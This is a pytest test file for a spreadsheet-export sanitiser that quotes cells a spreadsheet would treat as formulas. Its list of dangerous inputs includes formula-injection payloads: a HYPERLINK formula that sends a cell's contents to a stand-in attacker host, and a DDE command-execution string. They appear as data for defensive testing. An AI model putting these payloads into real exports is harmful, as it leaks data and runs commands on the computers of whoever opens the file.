"""Spreadsheet-safe exports (panelcare.exports): text a spreadsheet would run as a formula
gets a leading quote; numbers, dates, nulls and other text are left as they are."""

from __future__ import annotations

import datetime
import io

import openpyxl
import pyarrow as pa
import pytest

import panelcare.exports
from panelcare.exports import neutralise_cell, neutralise_row, neutralise_table

DANGEROUS = [
    '=HYPERLINK("http://evil.example/"&A1,"x")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-5",
    "@SUM(1+1)",
    "\tDr Tab",
    "\rDr Return",
]
HARMLESS = ["Dr Tremblay", "", "'already quoted", "a=b", " =leading space", "D00042", "É-Marie"]


def test_it_lists_its_public_names():
    assert sorted(panelcare.exports.__all__) == [
        "FORMULA_STARTS",
        "XLSX_ILLEGAL",
        "neutralise_cell",
        "neutralise_row",
        "neutralise_table",
        "xlsx_cell",
        "xlsx_row",
        "xlsx_table",
    ]


@pytest.mark.parametrize("text", DANGEROUS)
def test_it_puts_a_quote_before_text_a_spreadsheet_would_run(text):
    assert neutralise_cell(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_it_leaves_other_text_as_it_is(text):
    assert neutralise_cell(text) == text


@pytest.mark.parametrize(
    "value", [-5, -0.25, 0, None, True, datetime.date(2026, 1, 1), pa.scalar(-1).as_py()]
)
def test_it_leaves_numbers_dates_and_nulls_as_they_are(value):
    assert neutralise_cell(value) is value


def test_it_neutralises_a_row():
    assert neutralise_row(iter(["=1+1", -3, None, "ok"])) == ["'=1+1", -3, None, "ok"]


def test_it_neutralises_the_text_columns_of_an_arrow_table_only():
    texts = DANGEROUS + HARMLESS + [None]
    table = pa.table(
        {
            "name": pa.array(texts, pa.string()),
            "large": pa.array(texts, pa.large_string()),
            "number": pa.array(range(-len(texts), 0), pa.int64()),
        }
    )
    safe = neutralise_table(table)
    assert safe.schema == table.schema
    expected = [None if text is None else neutralise_cell(text) for text in texts]
    assert safe.column("name").to_pylist() == expected
    assert safe.column("large").to_pylist() == expected
    assert safe.column("number").to_pylist() == table.column("number").to_pylist()


def test_it_keeps_a_table_with_nothing_to_neutralise_as_it_is():
    table = pa.table({"name": ["Dr Tremblay", None], "number": [-1, 2]})
    assert neutralise_table(table).equals(table)
    assert neutralise_table(table.slice(0, 0)).num_rows == 0


def test_openpyxl_writes_a_neutralised_row_as_strings_never_formulas():
    workbook = openpyxl.Workbook(write_only=True)
    sheet = workbook.create_sheet("t")
    sheet.append(neutralise_row([*DANGEROUS, -5]))
    sink = io.BytesIO()
    workbook.save(sink)
    cells = next(openpyxl.load_workbook(io.BytesIO(sink.getvalue())).active.iter_rows())
    assert [cell.data_type for cell in cells] == ["s"] * len(DANGEROUS) + ["n"]
    # XML reads a carriage return back as a line feed: the quote is what matters here.
    written = ["'" + text.replace("\r", "\n") for text in DANGEROUS]
    assert [cell.value for cell in cells] == [*written, -5]
